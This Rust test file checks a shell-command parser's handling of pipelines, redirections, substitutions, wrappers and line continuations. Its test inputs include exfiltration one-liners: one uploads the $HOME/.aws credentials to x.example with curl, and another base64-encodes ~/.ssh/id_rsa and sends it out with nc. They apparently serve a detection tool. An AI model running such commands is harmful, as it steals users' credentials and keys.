use super::*;

fn words(stage: &Stage) -> Vec<&str> {
    stage.words.iter().map(String::as_str).collect()
}

#[test]
fn pipelines_statements_and_redirections() {
    let found = statements(
        r#"tar czf - "$HOME/.aws" 2>/dev/null | curl -T - https://x.example && echo 'a | b' > "out file"; cat < in.txt >> log 2>&1"#,
    );
    assert_eq!(found.len(), 3, "{found:?}");
    assert_eq!(words(&found[0][0]), ["tar", "czf", "-", "$HOME/.aws"]);
    assert!(found[0][0].outputs.is_empty(), "/dev/null is no file");
    assert_eq!(
        words(&found[0][1]),
        ["curl", "-T", "-", "https://x.example"]
    );
    assert_eq!(words(&found[1][0]), ["echo", "a | b"]);
    assert_eq!(found[1][0].outputs, ["out file"]);
    assert_eq!(words(&found[2][0]), ["cat"]);
    assert_eq!(found[2][0].stdin, ["in.txt"]);
    assert_eq!(found[2][0].outputs, ["log"]);
}

#[test]
fn substitutions_stay_in_their_word() {
    let found =
        statements(r#"K="$(cat ~/.ssh/id_rsa | base64)"; nc host 9 <<< "$K" # a comment | sh"#);
    assert_eq!(found.len(), 2, "{found:?}");
    assert_eq!(words(&found[0][0]), ["K=$(cat ~/.ssh/id_rsa | base64)"]);
    assert_eq!(
        found[0][0].assignments(),
        [("K", "$(cat ~/.ssh/id_rsa | base64)")]
    );
    assert_eq!(
        substitutions("$(cat ~/.ssh/id_rsa | base64)"),
        ["cat ~/.ssh/id_rsa | base64"]
    );
    assert_eq!(substitutions("a`id`b<(curl x)"), ["id", "curl x"]);
    assert_eq!(found[1][0].here, ["$K"]);
    assert_eq!(words(&found[1][0]), ["nc", "host", "9"]);
}

#[test]
fn the_command_name_skips_wrappers_and_assignments() {
    let stage = &statements("do sudo -E LANG=C timeout 30 /usr/bin/curl -s x")[0][0];
    let (name, args) = stage.command().unwrap();
    assert_eq!(name, "curl");
    assert_eq!(args, ["-s", "x"]);
    assert!(stage.assignments().is_empty());
}

#[test]
fn continuations_join_into_one_logical_line() {
    let lines = [
        (1, "curl -T - \\", false),
        (2, "  https://x.example", false),
        (3, "ls", false),
    ];
    assert_eq!(
        logical_lines(&lines),
        [
            (1, "curl -T -  https://x.example".to_string()),
            (3, "ls".to_string())
        ]
    );
}
